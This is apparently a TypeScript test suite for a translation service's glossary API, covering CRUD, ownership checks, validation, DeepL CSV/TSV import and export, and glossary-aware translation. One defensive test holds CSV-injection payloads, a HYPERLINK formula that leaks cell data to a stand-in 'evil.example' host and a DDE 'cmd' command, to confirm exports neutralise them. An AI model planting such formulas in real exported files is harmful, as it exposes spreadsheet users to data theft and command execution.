import { GLOSSARY_LIMITS, type Glossary, type Translation } from '@tolk/contract';
import { beforeAll, describe, expect, it } from 'vitest';
import { docxText, makeDocx } from './documents.ts';
import { DATABASES, signUp, type TestServer } from './harness.ts';
import { refusal } from './refusals.ts';
import { call, settled, uploadFile } from './translate-helpers.ts';
import { translationServer } from './translation-server.ts';

type User = { cookie: string; userId: string };

const TERMS = [
  { source: 'file', target: 'archivo', caseSensitive: false },
  { source: 'tar', target: null, caseSensitive: false },
];

describe.each(DATABASES)('glossaries on %s', (kind) => {
  let server: TestServer;
  beforeAll(async () => {
    ({ server } = await translationServer(kind));
  });

  const fn = <T>(user: User, name: string, data: unknown) => call<T>(server.app, user.cookie, name, data);
  const create = async (user: User, data: Record<string, unknown>) => {
    const answer = await fn<Glossary>(user, 'createGlossary', { langFrom: 'en', langTo: 'es', ...data });
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    return answer.body.result;
  };
  const list = async (user: User) =>
    (await fn<{ glossaries: Glossary[] }>(user, 'listGlossaries', {})).body.result.glossaries;

  async function translateDocx(user: User, extra: Record<string, unknown> = {}) {
    const docx = await makeDocx(['Please bring the file. Extract it with tar.']);
    const uploadId = await uploadFile(server.app, user.cookie, docx, 'meeting.docx');
    const started = await fn<Translation>(user, 'translateDocument', {
      uploadId,
      langFrom: 'en',
      langTo: 'es',
      provider: 'local',
      ...extra,
    });
    if (started.status !== 200) return { status: started.status, body: started.body };
    const done = await settled(server.app, user.cookie, started.body.result.id);
    expect(done.status).toBe('completed');
    const output = await server.app.inject({
      method: 'GET',
      url: `/api/files/${done.translatedFileId}`,
      headers: { cookie: user.cookie },
    });
    return { status: 200, text: await docxText(output.rawPayload), translation: done };
  }

  it('creates, lists, updates and deletes a glossary; a pair has one default', async () => {
    const user = await signUp(server.app);
    const first = await create(user, { name: 'Work', entries: TERMS, isDefault: true });
    expect(first).toMatchObject({
      name: 'Work',
      langFrom: 'en',
      langTo: 'es',
      isDefault: true,
      entries: TERMS,
    });
    const keep = await create(user, {
      name: 'Never translate',
      langFrom: null,
      langTo: null,
      entries: [{ source: 'Tolk', target: 'should go', caseSensitive: true }],
    });
    expect(keep.entries).toEqual([{ source: 'Tolk', target: null, caseSensitive: true }]);
    const second = await create(user, { name: 'Legal', isDefault: true });
    expect((await list(user)).map((g) => [g.name, g.isDefault])).toEqual([
      ['Never translate', false],
      ['Legal', true],
      ['Work', false],
    ]);
    const renamed = await fn<Glossary>(user, 'updateGlossary', {
      glossaryId: first.glossaryId,
      name: 'Office',
      entries: [TERMS[0]],
      isDefault: true,
    });
    expect(renamed.body.result).toMatchObject({ name: 'Office', entries: [TERMS[0]], isDefault: true });
    expect((await list(user)).find((g) => g.glossaryId === second.glossaryId)?.isDefault).toBe(false);
    expect((await fn(user, 'deleteGlossary', { glossaryId: second.glossaryId })).body).toEqual({
      result: { success: true },
    });
    expect((await list(user)).map((g) => g.name)).toEqual(['Never translate', 'Office']);
  });

  it("answers not-found for someone else's glossary and changes nothing", async () => {
    const owner = await signUp(server.app);
    const stranger = await signUp(server.app);
    const glossary = await create(owner, { name: 'Mine', entries: TERMS });
    const notFound = { error: refusal('not-found', 'GLOSSARY_NOT_FOUND') };
    for (const [name, data] of [
      ['updateGlossary', { glossaryId: glossary.glossaryId, name: 'Stolen' }],
      ['deleteGlossary', { glossaryId: glossary.glossaryId }],
      ['exportGlossary', { glossaryId: glossary.glossaryId }],
      ['importGlossary', { glossaryId: glossary.glossaryId, content: 'a,b\n' }],
    ] as const) {
      const answer = await fn(stranger, name, data);
      expect(answer.status, name).toBe(404);
      expect(answer.body, name).toEqual(notFound);
    }
    const refused = await translateDocx(stranger, { glossaryId: glossary.glossaryId });
    expect(refused.status).toBe(404);
    expect(await list(owner)).toEqual([glossary]);
  });

  it.each([
    ['the same language twice', { langFrom: 'en', langTo: 'en' }],
    ['half a pair', { langFrom: 'en', langTo: null }],
    ['a source term twice', { entries: [TERMS[0], TERMS[0]] }],
    ['a line break in a term', { entries: [{ source: 'a\nb', target: 'c' }] }],
    ['an empty name', { name: ' ' }],
    ['a term over 1024 bytes', { entries: [{ source: 'é'.repeat(513), target: 'x' }] }],
  ])('refuses %s as invalid-argument', async (_, data) => {
    const user = await signUp(server.app);
    const answer = await fn(user, 'createGlossary', { name: 'X', langFrom: 'en', langTo: 'es', ...data });
    expect(answer.status).toBe(400);
    expect(answer.body.error.status).toBe('INVALID_ARGUMENT');
    expect(await list(user)).toEqual([]);
  });

  it(`keeps a user to ${GLOSSARY_LIMITS.glossariesPerUser} glossaries`, async () => {
    const user = await signUp(server.app);
    for (let i = 0; i < GLOSSARY_LIMITS.glossariesPerUser; i++) await create(user, { name: `G${i}` });
    const answer = await fn(user, 'createGlossary', { name: 'One more', langFrom: 'en', langTo: 'es' });
    expect(answer.status).toBe(429);
    expect(answer.body).toEqual({
      error: refusal('resource-exhausted', 'TOO_MANY_GLOSSARIES', {
        limit: GLOSSARY_LIMITS.glossariesPerUser,
      }),
    });
  });

  it('imports DeepL CSV and TSV files, exports them back, and refuses a bad file whole with its lines', async () => {
    const user = await signUp(server.app);
    const csv = 'file,archivo,en,es\n"Meeting Notes","Notas de la reunión"\ntar,\n';
    const imported = await fn<Glossary>(user, 'importGlossary', {
      name: 'Imported',
      langFrom: 'en',
      langTo: 'es',
      content: csv,
    });
    expect(imported.body.result.entries).toEqual([
      { source: 'file', target: 'archivo', caseSensitive: false },
      { source: 'Meeting Notes', target: 'Notas de la reunión', caseSensitive: false },
      { source: 'tar', target: null, caseSensitive: false },
    ]);
    const exported = await fn<{ fileName: string; content: string }>(user, 'exportGlossary', {
      glossaryId: imported.body.result.glossaryId,
      format: 'tsv',
    });
    expect(exported.body.result).toMatchObject({
      fileName: 'Imported en-es.tsv',
      content: 'file\tarchivo\nMeeting Notes\tNotas de la reunión\ntar\t\n',
    });
    const replaced = await fn<Glossary>(user, 'importGlossary', {
      glossaryId: imported.body.result.glossaryId,
      content: exported.body.result.content.replace('archivo', 'fichero'),
    });
    expect(replaced.body.result.entries[0]).toMatchObject({ source: 'file', target: 'fichero' });

    const bad = await fn(user, 'importGlossary', {
      glossaryId: imported.body.result.glossaryId,
      content: 'file,archivo\n,nothing\nfile,again\n"open,quote\n',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatchObject({
      status: 'INVALID_ARGUMENT',
      details: {
        reason: 'GLOSSARY_FILE_INVALID',
        count: 3,
        line: 2,
        issues: [
          { path: 'line 2', code: 'missing-source' },
          { path: 'line 3', code: 'duplicate-source' },
          { path: 'line 4', code: 'unterminated-quote' },
        ].map((issue) => expect.objectContaining(issue)),
      },
    });
    expect((await list(user))[0]?.entries[0]).toMatchObject({ target: 'fichero' });
  });

  it('exports no cell a spreadsheet would run as a formula, and imports that export back to the same terms', async () => {
    const user = await signUp(server.app);
    const entries = [
      { source: '=HYPERLINK("https://evil.example/?"&A1,"Open")', target: 'abrir', caseSensitive: false },
      { source: "+cmd|' /C calc'!A0", target: null, caseSensitive: false },
      { source: '-ing', target: '-ando', caseSensitive: false },
      { source: '@SUM(A1:A2)', target: "'=SUMA", caseSensitive: false },
    ];
    const original = await create(user, { name: 'Formulas', entries });
    for (const format of ['csv', 'tsv'] as const) {
      const exported = await fn<{ content: string }>(user, 'exportGlossary', {
        glossaryId: original.glossaryId,
        format,
      });
      const lines = exported.body.result.content.trimEnd().split('\n');
      if (format === 'csv')
        expect(lines).toEqual([
          `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","abrir"`,
          `"'+cmd|' /C calc'!A0",""`,
          `"'-ing","'-ando"`,
          `"'@SUM(A1:A2)","''=SUMA"`,
        ]);
      else
        expect(lines).toEqual([
          `'=HYPERLINK("https://evil.example/?"&A1,"Open")\tabrir`,
          `'+cmd|' /C calc'!A0\t`,
          `'-ing\t'-ando`,
          `'@SUM(A1:A2)\t''=SUMA`,
        ]);
      const imported = await fn<Glossary>(user, 'importGlossary', {
        langFrom: 'en',
        langTo: 'es',
        content: exported.body.result.content,
      });
      expect(imported.body.result.entries).toEqual(entries);
    }
  });

  it('translates a DOCX with the chosen glossary, the pair default, or none', async () => {
    const user = await signUp(server.app);
    const plain = await translateDocx(user);
    expect(plain.text).toMatch(/lima/);
    expect(plain.text).toMatch(/alquitrán/i);

    const glossary = await create(user, { name: 'Work', entries: TERMS });
    const chosen = await translateDocx(user, { glossaryId: glossary.glossaryId });
    expect(chosen.text).toMatch(/\barchivo\b/);
    expect(chosen.text).toMatch(/\btar\b/);
    expect(chosen.text).not.toMatch(/lima|alquitrán/i);

    await fn(user, 'updateGlossary', { glossaryId: glossary.glossaryId, isDefault: true });
    expect((await translateDocx(user)).text).toMatch(/\barchivo\b/);
    const none = await translateDocx(user, { glossaryId: null });
    expect(none.text).toMatch(/lima/);
    // The user's never-translate list applies to every translation, with or without a glossary.
    await create(user, { name: 'Never translate', langFrom: null, langTo: null, entries: [TERMS[1]] });
    expect((await translateDocx(user, { glossaryId: null })).text).toMatch(/\btar\b/);
  });

  it('refuses a glossary of another pair', async () => {
    const user = await signUp(server.app);
    const french = await create(user, { name: 'Français', langFrom: 'en', langTo: 'fr' });
    const answer = await translateDocx(user, { glossaryId: french.glossaryId });
    expect(answer.status).toBe(400);
    expect(answer.body).toEqual({
      error: refusal('invalid-argument', 'GLOSSARY_PAIR_MISMATCH', {
        glossaryFrom: 'en',
        glossaryTo: 'fr',
        from: 'en',
        to: 'es',
      }),
    });
  });

  it('applies the glossary to live camera text', async () => {
    const user = await signUp(server.app);
    const glossary = await create(user, { name: 'Work', entries: TERMS });
    const answer = await fn<{ translations: string[] }>(user, 'translateText', {
      texts: ['Open the file with tar'],
      langFrom: 'en',
      langTo: 'es',
      provider: 'local',
      glossaryId: glossary.glossaryId,
    });
    expect(answer.body.result.translations[0]).toMatch(/\barchivo\b.*\btar\b/);
  });
});
